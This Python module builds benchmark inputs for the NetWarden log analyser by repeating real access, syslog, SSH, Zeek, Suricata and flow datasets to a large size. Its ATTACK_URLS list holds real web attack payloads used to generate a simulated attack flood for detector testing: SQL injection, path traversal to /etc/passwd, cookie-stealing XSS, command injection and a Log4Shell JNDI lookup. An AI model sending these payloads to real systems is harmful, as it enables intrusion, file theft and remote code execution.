"""Benchmark inputs made from the real datasets, scaled up the way real logs grow.

A large access log is the 10,000 real lines of ``web-access-logs/apache_logs.gz`` repeated, each copy
shifted forward in time past the previous one, so timestamps keep increasing as in a real server's log
(indexes on time behave as they would in production).
"""

from __future__ import annotations

import gzip
import os
import re
from datetime import datetime, timedelta
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
_STAMP = re.compile(r"\[(\d{2}/\w{3}/\d{4}:\d{2}:\d{2}:\d{2}) ([+-]\d{4})\]")


def datasets() -> Path:
    return Path(os.environ.get("NETWARDEN_DATASETS", REPO.parent / "shared" / "datasets"))


def scaled_access_log(target: Path, lines: int) -> Path:
    """Write (once) an access log of ``lines`` lines with increasing timestamps."""
    if target.exists() and sum(1 for _ in target.open("rb")) == lines:
        return target
    with gzip.open(datasets() / "web-access-logs" / "apache_logs.gz", "rt", encoding="utf-8") as f:
        base = f.read().splitlines()
    span = timedelta(days=4)  # the sample covers about 3.5 days
    target.parent.mkdir(parents=True, exist_ok=True)
    with target.open("w", encoding="utf-8") as out:
        written = 0
        copy = 0
        while written < lines:
            shift = span * copy

            def moved(m: re.Match[str]) -> str:
                when = datetime.strptime(m.group(1), "%d/%b/%Y:%H:%M:%S") + shift
                return f"[{when:%d/%b/%Y:%H:%M:%S} {m.group(2)}]"

            for line in base:
                if written >= lines:
                    break
                out.write(_STAMP.sub(moved, line, count=1) + "\n")
                written += 1
            copy += 1
    return target


# -- the other formats: real dataset files, repeated to a useful size -----------------------------
# Formats with a header (CSV header row, Zeek's #-lines) keep it once at the top, the data rows are
# repeated below it, as a long-running sensor would write one growing file.


def _read_lines(path: Path) -> list[str]:
    opener = gzip.open if path.suffix == ".gz" else open
    with opener(path, "rt", encoding="utf-8", errors="surrogateescape", newline="") as f:  # type: ignore[operator]
        return [line.rstrip("\r\n") for line in f]


def repeated(target: Path, header: list[str], rows: list[str], lines: int) -> Path:
    """Write (once) ``header`` then ``rows`` repeated until the file has ``lines`` lines in all."""
    if target.exists() and sum(1 for _ in target.open("rb")) == lines:
        return target
    if not rows:
        raise ValueError(f"no data rows to repeat for {target.name}")
    target.parent.mkdir(parents=True, exist_ok=True)
    tmp = target.with_suffix(target.suffix + ".tmp")
    with tmp.open("w", encoding="utf-8", errors="surrogateescape", newline="\n") as out:
        for line in header[:lines]:
            out.write(line + "\n")
        left = lines - min(len(header), lines)
        while left > 0:
            part = rows[:left]
            out.write("\n".join(part) + "\n")
            left -= len(part)
    tmp.replace(target)
    return target


def syslog_linux(target: Path, lines: int) -> Path:
    """loghub's Linux.log (25,566 real syslog lines) repeated."""
    return repeated(target, [], _read_lines(datasets() / "loghub" / "Linux.log.gz"), lines)


def zeek_conn_json(target: Path, lines: int) -> Path:
    """Every Zeek conn.log in JSON form among the datasets, concatenated and repeated."""
    rows: list[str] = []
    for path in sorted((datasets() / "zeek-conn-logs").glob("*conn.log*")):
        with path.open("rb") as f:
            if f.read(1) == b"{":
                rows += _read_lines(path)
    return repeated(target, [], rows, lines)


def zeek_conn_tsv(target: Path, lines: int) -> Path:
    """The labelled CTU-SME-11 Zeek conn.log (TSV with #-header lines): header once, rows repeated."""
    all_lines = _read_lines(datasets() / "zeek-conn-logs" / "test18-ctu-sme-11_conn.log.labeled")
    header = [line for line in all_lines if line.startswith("#") and not line.startswith("#close")]
    rows = [line for line in all_lines if line and not line.startswith("#")]
    return repeated(target, header, rows, lines)


def suricata_eve(target: Path, lines: int) -> Path:
    """The 5,000-line Suricata eve.json (alerts, flows, DNS, HTTP, ...) repeated."""
    return repeated(target, [], _read_lines(datasets() / "suricata-eve" / "test6-malicious.suricata.json.gz"), lines)


def argus_binetflow(target: Path, lines: int) -> Path:
    """The Argus .binetflow files sharing the most common header layout: header once, rows repeated."""
    groups: dict[str, list[str]] = {}
    for path in sorted((datasets() / "argus-flows").glob("*.binetflow")):
        head, *rows = _read_lines(path)
        groups.setdefault(head, []).extend(row for row in rows if row)
    header, rows = max(groups.items(), key=lambda item: len(item[1]))
    return repeated(target, [header], rows, lines)


def cicflowmeter(target: Path, lines: int) -> Path:
    """No CICFlowMeter dataset is shipped: the two real CIC-IDS2017 rows (with their published header)
    from tests/data/golden/cicflowmeter.log, repeated. A rough figure only: two distinct rows."""
    golden = [line for line in _read_lines(REPO / "tests" / "data" / "golden" / "cicflowmeter.log")
              if not line.startswith("#")]
    header_at = next(i for i, line in enumerate(golden) if line.startswith("Flow ID,"))
    header = golden[header_at]
    rows = [line for line in golden[header_at + 1:header_at + 4] if line.count(",") == header.count(",")][:2]
    return repeated(target, [header], rows, lines)


def netwarden_jsonl(target: Path, lines: int, access_log: Path) -> Path:
    """NetWarden's own JSON lines (Event.to_dict()), made by parsing the scaled access log."""
    if target.exists() and sum(1 for _ in target.open("rb")) == lines:
        return target
    import json

    from netwarden.parse import ParseContext, get_parser

    parser = get_parser("access_log")(ParseContext(source=str(access_log)))
    out_lines: list[str] = []
    with access_log.open(encoding="utf-8") as f:
        for line in f:
            event = parser.parse_line(line.rstrip("\n"))
            if event is not None:
                out_lines.append(json.dumps(event.to_dict(), default=str))
            if len(out_lines) >= lines:
                break
    return repeated(target, [], out_lines, lines)


# Real attack payloads (sqlmap, the OWASP testing guide, Log4Shell, botnet probes), as in tests/detect/test_web_attack.py
ATTACK_URLS = [
    "/item.php?id=1%27%20OR%20%271%27%3D%271", "/item.php?id=-1+UNION+ALL+SELECT+NULL,NULL,CONCAT(0x71766a7a71,0x4a4b)--+-",
    "/item.php?id=1%20AND%20SLEEP(5)", "/index.php?page=../../../../etc/passwd",
    "/index.php?page=..%2f..%2f..%2fetc%2fpasswd", "/search?q=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/index.php?page=php://filter/convert.base64-encode/resource=index.php",
    "/ping.php?host=127.0.0.1;cat%20/etc/passwd", "/?x=${jndi:ldap://198.51.100.7:1389/a}",
]


def attack_access_log(target: Path, lines: int, sources: int | None = None) -> Path:
    """A flood of web attacks: the real access log's client addresses (the first ``sources`` of them, or all
    ~1,750) each sending the payloads above in turn, 100 requests a second, so that every line raises or updates
    an alert (the "under attack" case)."""
    if target.exists() and sum(1 for _ in target.open("rb")) == lines:
        return target
    with gzip.open(datasets() / "web-access-logs" / "apache_logs.gz", "rt", encoding="utf-8") as f:
        clients = list(dict.fromkeys(line.split(" ", 1)[0] for line in f))[:sources]
    start = datetime(2026, 11, 20, 8, 0)
    tmp = target.with_suffix(".tmp")
    target.parent.mkdir(parents=True, exist_ok=True)
    with tmp.open("w", encoding="utf-8") as out:
        for n in range(lines):
            when = start + timedelta(milliseconds=10 * n)
            url = ATTACK_URLS[n // len(clients) % len(ATTACK_URLS)]
            out.write(f'{clients[n % len(clients)]} - - [{when:%d/%b/%Y:%H:%M:%S} +0000] "GET {url} HTTP/1.1" '
                      f'{(200, 404, 403, 500)[n % 4]} {512 + n % 997} "-" "Mozilla/5.0 (X11; Linux x86_64)"\n')
    tmp.replace(target)
    return target


_SYSLOG_STAMP = re.compile(r"^(\w{3} +\d{1,2} \d{2}:\d{2}:\d{2}) ")
_IPV4 = re.compile(r"\b(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})\b")


def ssh_log(target: Path, lines: int, variants: int = 1) -> Path:
    """loghub's OpenSSH_2k.log (2,000 real sshd lines from 30 client addresses, mostly guessing) repeated, each
    copy moved forward in time past the previous one (from 1 January, so the year-less stamps never wrap).
    ``variants`` > 1 spreads the copies over that many times more client addresses: copy k moves the third
    octet of every address by k % variants (so the same attacks come from ``variants`` x 30 addresses)."""
    if target.exists() and sum(1 for _ in target.open("rb")) == lines:
        return target
    base = _read_lines(datasets() / "loghub" / "OpenSSH_2k.log")
    first = datetime.strptime("2026 " + _SYSLOG_STAMP.match(base[0]).group(1), "%Y %b %d %H:%M:%S")
    offsets = [datetime.strptime("2026 " + _SYSLOG_STAMP.match(line).group(1), "%Y %b %d %H:%M:%S") - first
               for line in base]
    span = offsets[-1] + timedelta(minutes=5)
    start = datetime(2027, 1, 1)
    target.parent.mkdir(parents=True, exist_ok=True)
    tmp = target.with_suffix(target.suffix + ".tmp")
    with tmp.open("w", encoding="utf-8") as out:
        written = copy = 0
        while written < lines:
            shift = variants and copy % variants

            def moved(m: re.Match[str]) -> str:
                return f"{m.group(1)}.{m.group(2)}.{(int(m.group(3)) + shift) % 256}.{m.group(4)}"

            for line, offset in zip(base, offsets):
                if written >= lines:
                    break
                when = start + span * copy + offset
                rest = line[_SYSLOG_STAMP.match(line).end():]
                out.write(f"{when:%b} {when.day:2d} {when:%H:%M:%S} " + (_IPV4.sub(moved, rest) if shift else rest)
                          + "\n")
                written += 1
            copy += 1
    tmp.replace(target)
    return target
